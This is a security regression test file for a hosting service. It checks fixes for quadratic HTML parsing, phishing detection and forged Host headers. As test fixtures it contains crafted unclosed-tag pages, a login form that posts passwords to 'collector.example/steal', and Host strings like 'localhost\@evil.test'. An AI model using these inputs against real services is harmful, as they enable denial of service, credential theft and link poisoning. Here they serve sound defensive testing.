import { describe, it, before, after } from 'node:test'
import assert from 'node:assert/strict'
import { request } from 'undici'
import { ENGINES, multipart, startServer, type TestServer } from '../support/server.js'
import { batchUpload, HIGH_LIMITS, HTML } from '../support/hosting.js'
import { until, webhookReceiver } from '../support/webhooks.js'
import { smtpSink } from '../support/smtp.js'

// Findings of the security review of the deploy-time page reading and the links sent out of
// band (decisions 324, 329 and 330), against a real server over a socket, both engines.

/** A form whose file input a browser sends as its name alone: the warning the deploy answers. */
const FILE_AS_NAME = HTML('apply', '<form id="apply" method="post" action="https://formspree.io/f/x"><input type="file" name="cv"></form>')

for (const engine of ENGINES) {
  describe(`security review: deploy-time page reading and out-of-band links [${engine}]`, () => {
    let s: TestServer
    let u: Awaited<ReturnType<TestServer['user']>>
    let smtp: Awaited<ReturnType<typeof smtpSink>>
    before(async () => {
      smtp = await smtpSink()
      s = await startServer({ engine, env: { RATE_LIMITS: HIGH_LIMITS, SMTP_URL: smtp.url, SMTP_FROM: 'svc <svc@localhost>' } })
      u = await s.user()
    })
    after(async () => {
      await s.close()
      await smtp.close()
    })

    it('crafted pages of unclosed tags and comments are read in bounded time, and the service answers meanwhile (324)', { timeout: 60_000 }, async () => {
      // each page is ~200 KiB of tags that never close: every later tag used to rescan to the end
      const n = 200 * 1024
      const pages = [
        { filename: 'index.html', data: '<img '.repeat(n / 5) },
        { filename: 'forms.html', data: '<form '.repeat(n / 6) },
        { filename: 'comments.html', data: '<!--'.repeat(n / 4) },
        { filename: 'scripts.html', data: '<script>'.repeat(n / 8) },
        { filename: 'inputs.html', data: `<form method="post" action="${s.url}/api/forms/submit/x">${'<input '.repeat(n / 7)}` },
        { filename: 'buttons.html', data: `<form method="post"><input type="file">${'<button '.repeat(n / 8)}` },
        { filename: 'base.html', data: '<base '.repeat(n / 6) },
        // a login page: the phishing heuristics read its text and fields too
        { filename: 'login-lt.html', data: `<input type="password">${'<'.repeat(n)}` },
        { filename: 'login-inputs.html', data: `<input type="password">${'<input '.repeat(n / 7)}` },
        { filename: 'login-title.html', data: `<input type="password">${'<title>'.repeat(n / 7)}` },
        { filename: 'apply.html', data: FILE_AS_NAME },
      ]
      let slowest = 0
      let done = false
      // /healthz during the deploy: the page reading runs on the event loop
      const probe = (async () => {
        while (!done) {
          const t = Date.now()
          const h = await s.get('/healthz')
          assert.equal(h.status, 200)
          slowest = Math.max(slowest, Date.now() - t)
          await new Promise((r) => setTimeout(r, 50))
        }
      })()
      const r = await batchUpload(s, { key: u.key }, 'crafted', pages, true, { 'accept-language': 'en' })
      done = true
      await probe
      assert.equal(r.status, 200, r.text)
      assert.equal(r.json.uploaded_count, pages.length)
      // the real problems are still found: a file input in a form sent without multipart
      assert.deepEqual(
        r.json.warnings.map((w: { path: string }) => w.path),
        ['apply.html', 'buttons.html'],
      )
      // a hang guard, not a speed measure: the quadratic reading held the loop for minutes
      assert.ok(slowest < 5000, `/healthz waited ${slowest} ms during it`)
    })

    it(
      "a site's index.html of unclosed tags is read in bounded time when its user origin asks whether it is built for / (324)",
      { timeout: 60_000 },
      async () => {
        // 1 MiB, the most the check reads: every "<script " used to rescan to the end
        const page = '<script '.repeat((1 << 20) / 8)
        const up = await batchUpload(s, { key: u.key }, 'rootscan', [{ filename: 'index.html', data: page }], true)
        assert.equal(up.status, 200, up.text)
        assert.equal((await s.post('/api/folders/rootscan/publish', { key: u.key })).status, 200)
        let slowest = 0
        let done = false
        const probe = (async () => {
          while (!done) {
            const t = Date.now()
            assert.equal((await s.get('/healthz')).status, 200)
            slowest = Math.max(slowest, Date.now() - t)
            await new Promise((r) => setTimeout(r, 50))
          }
        })()
        // a browser's navigation to the project under the user's origin: the host reads its
        // index.html to tell whether to send it on to the project's own origin (decision 75)
        const r = await request(`${s.httpUrl}/rootscan/`, { headers: { host: `${u.username}.localhost`, 'sec-fetch-dest': 'document' } })
        await r.body.text()
        done = true
        await probe
        assert.equal(r.statusCode, 200)
        assert.ok(slowest < 5000, `/healthz waited ${slowest} ms during it`)
      },
    )

    it('a _next no URL parser resolves neither fails the warnings of the other pages nor the phishing heuristics (329)', async () => {
      const submit = `${s.url}/api/forms/submit/contact`
      // a login page posting the password elsewhere: the heuristics open a report for it
      const phish = HTML(
        'login',
        `<form id="c" method="post" action="${submit}"><input type="hidden" name="_next" value="\\\\["><input type="password" name="pw"></form>` +
          '<form method="post" action="https://collector.example/steal"><input type="password" name="p"></form>',
      )
      const folder = `nx${engine}`
      const r = await batchUpload(
        s,
        { key: u.key },
        folder,
        [
          { filename: 'a-login.html', data: phish },
          { filename: 'b-apply.html', data: FILE_AS_NAME },
        ],
        true,
        { 'accept-language': 'en' },
      )
      assert.equal(r.status, 200, r.text)
      assert.deepEqual(
        r.json.warnings.map((w: { path: string }) => w.path),
        ['b-apply.html'],
      )
      const reports = await s.deps.db.k
        .selectFrom('abuse_reports')
        .select(['target', 'details'])
        .where('source', '=', 'heuristic')
        .where('target', '=', `site:${u.username}/${folder}`)
        .execute()
      assert.equal(reports.length, 1, 'the phishing page is reported')
      assert.match(reports[0].details, /collector\.example/)
    })

    it("a visitor's Host that a browser reads as loopback but other parsers do not gives no absolute link (330)", async () => {
      const rx = await webhookReceiver()
      rx.status.value = 200
      try {
        const made = await s.post('/svc_api/forms/create', { key: u.key, json: { form_name: 'Jobs', form_slug: `sr-${engine}-${Date.now()}` } })
        assert.equal(made.status, 200, made.text)
        const form = made.json.data as { id: string; form_slug: string }
        const hook = await s.request('PUT', `/svc_api/forms/webhook/${form.id}`, { key: u.key, json: { url: rx.url } })
        assert.equal(hook.status, 200, hook.text)
        const port = new URL(s.url).port
        // a backslash or a fragment: WHATWG reads host localhost, RFC 3986 parsers evil.test
        const hosts = ['localhost\\@evil.test', 'localhost#@evil.test', `localhost:${port}`]
        for (const [i, host] of hosts.entries()) {
          const mp = multipart([{ name: 'cv', filename: `cv${i}.txt`, data: Buffer.from(`resume ${i}`) }])
          const sent = await s.post(`/api/forms/submit/${form.form_slug}`, { body: mp.body, headers: { 'content-type': mp.contentType, host } })
          assert.equal(sent.status, 200, sent.text)
        }
        await until(() => rx.hits.length === hosts.length, 10_000, 'the deliveries')
        const byName = new Map<string, { url: string; id: string }>()
        for (const h of rx.hits) {
          const f = JSON.parse(h.body).submission.files[0] as { url: string; id: string; filename: string }
          byName.set(f.filename, f)
        }
        // the forged Hosts: the link is the path alone; a plain loopback Host keeps its absolute link
        for (const i of [0, 1]) assert.equal(byName.get(`cv${i}.txt`)?.url, `/svc_api/forms/files/${byName.get(`cv${i}.txt`)?.id}`)
        assert.equal(byName.get('cv2.txt')?.url, `https://localhost:${port}/svc_api/forms/files/${byName.get('cv2.txt')?.id}`)
        // the verification mail of a notification address is refused its link the same way
        const mailsBefore = smtp.mails.length
        for (const [i, host] of hosts.slice(0, 2).entries()) {
          const r = await s.post('/svc_api/notify/addresses', { key: u.key, json: { address: `forged${i}@example.com` }, headers: { host } })
          assert.equal(r.status, 409, r.text)
          assert.equal(r.json.error_code, 1431)
        }
        await new Promise((r) => setTimeout(r, 200))
        assert.equal(smtp.mails.length, mailsBefore, 'no mail sent')
      } finally {
        await rx.close()
      }
    })
  })
}
